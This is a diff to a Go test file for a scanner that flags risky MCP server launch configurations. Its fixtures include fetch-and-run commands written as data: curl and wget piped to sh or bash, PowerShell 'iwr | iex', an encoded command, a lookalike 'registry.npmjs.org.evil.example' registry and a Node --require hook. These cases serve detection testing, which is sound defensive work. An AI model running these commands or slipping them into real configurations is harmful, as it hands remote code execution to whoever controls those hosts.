@@ -150,6 +150,11 @@ func TestRunnerFlags(t *testing.T) {
 		{"npx", []string{"--package=acme-mcp@1.0.0", "acme"}, "--package@0"},
 		{"npx", []string{"--registry", "https://npm.acme.dev", "acme-mcp@1.0.0"}, "--registry@0"},
 		{"npx", []string{"--@acme:registry=https://npm.acme.dev", "@acme/mcp@1.0.0"}, "--@acme:registry@0"},
+		// the public registry and PyPI's own index are where the runner fetches anyway
+		{"npx", []string{"--registry", "https://registry.npmjs.org", "@playwright/mcp@0.0.41"}, ""},
+		{"npx", []string{"--registry=https://registry.npmjs.org/", "-y", "acme-mcp@1.0.0"}, ""},
+		{"uvx", []string{"--index-url", "https://pypi.org/simple", "acme-mcp==1.0.0"}, ""},
+		{"npx", []string{"--registry", "https://registry.npmjs.org.evil.example", "acme-mcp@1.0.0"}, "--registry@0"},
 		{"npx", []string{"-c", "curl https://x.example/install | sh"}, "-c@0"},
 		{"npx", []string{"--call", "acme serve"}, "--call@0"},
 		{"npm", []string{"exec", "--node-options=--require=/tmp/hook.js", "acme-mcp@1.0.0"}, "--node-options@1"},
@@ -239,14 +244,19 @@ func TestShellFacts(t *testing.T) {
 		subst    bool
 		ptr      string
 	}{
-		{"bash", []string{"-c", "cd /opt/acme && node server.js"}, "bash -c", "", false, "/mcpServers/x/args/1"},
 		{"sh", []string{"-lc", "exec acme-mcp"}, "sh -c", "", false, "/mcpServers/x/args/1"},
 		{"/bin/zsh", []string{"-e", "-c", "acme-mcp"}, "zsh -c", "", false, "/mcpServers/x/args/2"},
 		{"bash", []string{"-c", "curl -fsSL https://get.acme.dev/install.sh | bash"}, "bash -c", "curl|bash", false, "/mcpServers/x/args/1"},
 		{"sh", []string{"-c", "wget -qO- https://get.acme.dev | sudo -E sh -s -- --yes"}, "sh -c", "wget|sh", false, "/mcpServers/x/args/1"},
 		{"bash", []string{"-c", "$(curl -fsSL https://get.acme.dev/run.sh)"}, "bash -c", "curl|bash", true, "/mcpServers/x/args/1"},
 		{"bash", []string{"-c", "source <(curl -s https://get.acme.dev/env)"}, "bash -c", "curl|source", false, "/mcpServers/x/args/1"},
-		{"sh", []string{"-c", "acme-mcp --token `cat ~/.acme`"}, "sh -c", "", true, "/mcpServers/x/args/1"},
+		{"sh", []string{"-c", "acme-mcp --token `curl -s https://acme.example/t`"}, "sh -c", "", true, "/mcpServers/x/args/1"},
+		{"sh", []string{"-c", "exec $(cat ~/.acme/launcher)"}, "sh -c", "", true, "/mcpServers/x/args/1"},
+		// shells behind wrappers
+		{"wsl.exe", []string{"-d", "Ubuntu", "bash", "-c", "source ~/.venv/bin/activate; python -m acme"}, "wsl … bash -c", "", false, "/mcpServers/x/args/4"},
+		{"docker", []string{"run", "-i", "--rm", "-e", "A=1", "node:22", "sh", "-c", "npm i -g acme && acme"}, "docker run … sh -c", "", false, "/mcpServers/x/args/8"},
+		{"env", []string{"NODE_ENV=production", "bash", "-c", "acme-mcp | tee log.txt"}, "env … bash -c", "", false, "/mcpServers/x/args/3"},
+		{"cmd", []string{"/c", "bash", "-c", "acme-mcp || true"}, "cmd … bash -c", "", false, "/mcpServers/x/args/3"},
 		{"powershell", []string{"-NoProfile", "-Command", "iwr https://get.acme.dev/install.ps1 | iex"}, "powershell -Command", "iwr|iex", false, "/mcpServers/x/args/2"},
 		{"pwsh", []string{"-c", "iex (irm https://get.acme.dev)"}, "pwsh -Command", "irm|iex", false, "/mcpServers/x/args/1"},
 		{"powershell", []string{"-EncodedCommand", "SQBFAFgA"}, "powershell -EncodedCommand", "", false, "/mcpServers/x/args/1"},
@@ -278,6 +288,11 @@ func TestShellFacts(t *testing.T) {
 		{"bash", "/opt/acme/start.sh"},
 		{"node", "server.js", "--name", "$(not a shell)"},
 		{"python", "-c", "import acme; acme.main()"},
+		// set-up that reads values, then one program: what runs is that program
+		{"bash", "-c", "cd /opt/acme && node server.js"},
+		{"bash", "-c", "GITHUB_TOKEN=$(gh auth token) exec npx -y acme-mcp@1.0.0"},
+		{"sh", "-c", `cd "$(git rev-parse --show-toplevel)" && exec uv run acme-mcp`},
+		{"sh", "-c", "acme-mcp --token `cat ~/.acme`"},
 	} {
 		if sh := shellOf("x", c[0], c[1:]...); sh != nil {
 			t.Errorf("%v: got %+v, want nil", c, sh)
